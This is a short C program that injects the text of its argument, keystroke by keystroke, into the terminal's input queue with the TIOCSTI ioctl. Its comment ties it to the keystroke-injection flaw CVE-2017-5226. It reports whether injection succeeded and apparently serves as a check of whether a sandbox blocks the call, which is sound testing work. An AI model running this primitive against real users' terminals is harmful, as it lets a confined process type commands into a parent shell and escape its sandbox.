/* tiocsti TEXT: push TEXT into the input queue of the terminal on fd 0 with
 * TIOCSTI, the keystroke injection of CVE-2017-5226.  Prints what happened;
 * exits 0 only if every byte was injected. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: tiocsti TEXT\n");
		return 2;
	}
	for (const char *p = argv[1]; *p; p++) {
		if (ioctl(0, TIOCSTI, p) < 0) {
			printf("TIOCSTI: %s\n", strerror(errno));
			return 1;
		}
	}
	printf("TIOCSTI: injected\n");
	return 0;
}
